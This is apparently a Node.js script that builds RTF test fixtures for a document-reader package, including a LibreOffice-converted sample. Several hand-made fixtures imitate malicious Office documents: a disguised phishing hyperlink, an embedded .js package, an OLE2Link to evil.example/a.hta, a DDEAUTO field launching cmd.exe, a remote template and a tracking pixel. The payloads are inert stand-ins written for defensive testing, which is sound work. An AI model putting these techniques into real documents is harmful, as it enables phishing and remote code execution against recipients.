/** Makes the samples: `node packages/readers/samples/rich-text/make.mjs`. libreoffice.rtf is LibreOffice's own writing; the others are by hand,
    as Word, Outlook and those who abuse them write. Looked at with Debian's unrtf. */
import { execFileSync } from 'node:child_process'
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PHISH_HTML, PNG } from '../outlook/items.mjs'
import { cp932, utf8 } from '../outlook/message-file.mjs'
import { rtfFromHtml } from '../outlook/rtf.mjs'

const write = (name, rtf) => writeFileSync(new URL(`${name}.rtf`, import.meta.url), rtf, 'latin1')
const hex = (bytes) => Buffer.from(bytes).toString('hex')
const bytes = (text) =>
  [...cp932(text)].map((byte) => (byte < 0x80 ? String.fromCharCode(byte).replace(/[\\{}]/g, '\\$&') : `\\'${hex([byte])}`)).join('')
const HEAD =
  '{\\rtf1\\ansi\\ansicpg932\\deff0\\uc1{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}{\\f1\\fswiss\\fcharset0 Arial;}}\n{\\info{\\title x}{\\author y}}\n'

/** Length and bytes, with a zero at the end ([MS-OLEDS] 2.1.4). */
function sized(text) {
  const own = Buffer.concat([Buffer.from(cp932(text)), Buffer.from([0])])
  return Buffer.concat([number(own.length), own])
}
function number(value) {
  const four = Buffer.alloc(4)
  four.writeUInt32LE(value)
  return four
}
const embedded = (className, native) =>
  Buffer.concat([number(0x501), number(2), sized(className), number(0), number(0), number(native.length), Buffer.from(native)])
function packed(name, content) {
  const zeroEnded = (text) => Buffer.concat([Buffer.from(cp932(text)), Buffer.from([0])])
  return Buffer.concat([
    Buffer.from([2, 0]),
    zeroEnded(name),
    zeroEnded(`C:\\x\\${name}`),
    Buffer.from([0, 0, 3, 0]),
    sized(`C:\\x\\${name}`),
    number(content.length),
    Buffer.from(content),
  ])
}
const lines = (digits) => digits.replace(/.{1,64}/g, '$&\n')

write(
  'link',
  `${HEAD}\\pard\\f0 ${bytes('雨宿銀行をご利用のお客様へ')}\\par ${bytes('ソ表十予能')}\\par\n` +
    `{\\field{\\*\\fldinst {\\lang1041 HYPERLINK "https://amayado.evil.example/login?a=1&b=2" \\\\o "${bytes('公式')}"}}{\\fldrslt {\\ul\\cf2 \\u12371?\\u12385?\\u12425? https://www.amayado-bank.example/}}}\\par\n` +
    `{\\field{\\*\\fldinst HYPERLINK \\\\l "top"}{\\fldrslt top}}{\\v ${bytes('見えない')}}\\f1 caf\\'e9\\~\\emdash\\bullet\\par}\n`,
)
write(
  'objects',
  `${HEAD}${bytes('請求書をダブルクリックしてください。')}\\par\n` +
    `{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata ${lines(hex(embedded('Package', packed('請求書.js', utf8('WScript.Echo(1)')))))}}{\\result {\\pict\\wmetafile8 00}}}\n` +
    `{\\object\\objemb\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${lines(hex(embedded('Equation.3', Buffer.from('1c000000020000', 'hex')))).replaceAll('0a', '0\\par{\\*\\zz q}a')}}}\n` +
    `{\\object\\objautlink{\\*\\objclass OLE2Link}{\\*\\objdata ${hex(embedded('OLE2Link', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('https://evil.example/a.hta\0', 'utf16le'), Buffer.alloc(32)])))}}}\n` +
    `{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc.exe"}{\\fldrslt x}}\n` +
    `{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/pixel.png" \\\\d}{\\fldrslt }}\n` +
    `{\\*\\shppict{\\pict\\pngblip\\picw1\\pich1 ${hex(PNG)}}}{\\nonshppict{\\pict\\wmetafile8 00}}}\n`,
)
write('template', `${HEAD}{\\*\\template https://evil.example/t.dotm}${bytes('読み込み中です。')}\\par}\n`)
write('packed-html', rtfFromHtml(PHISH_HTML))
write(
  'packed-text',
  `{\\rtf1\\ansi\\ansicpg932\\fromtext \\deff0{\\fonttbl{\\f0\\fcharset128 MS Gothic;}}\\f0 ${bytes('こんにちは')}\\par https://evil.example/\\par}`,
)
write('cut', `${HEAD}${bytes('途中で')} {\\b ${bytes('切れて')}`)

const folder = mkdtempSync(join(tmpdir(), 'rtf-'))
try {
  writeFileSync(
    join(folder, 'libreoffice.html'),
    `<html><meta charset="utf-8"><p>雨宿銀行 髙橋様 ①</p><p><a href="https://amayado.evil.example/?q=%E3%81%82">手続きはこちら</a></p><table><tr><td>金額</td><td>1,000円</td></tr></table></html>`,
  )
  execFileSync('soffice', [
    `-env:UserInstallation=file://${folder}/profile`,
    '--headless',
    '--convert-to',
    'rtf:Rich Text Format',
    '--outdir',
    folder,
    join(folder, 'libreoffice.html'),
  ])
  copyFileSync(join(folder, 'libreoffice.rtf'), new URL('libreoffice.rtf', import.meta.url))
} finally {
  rmSync(folder, { recursive: true })
}
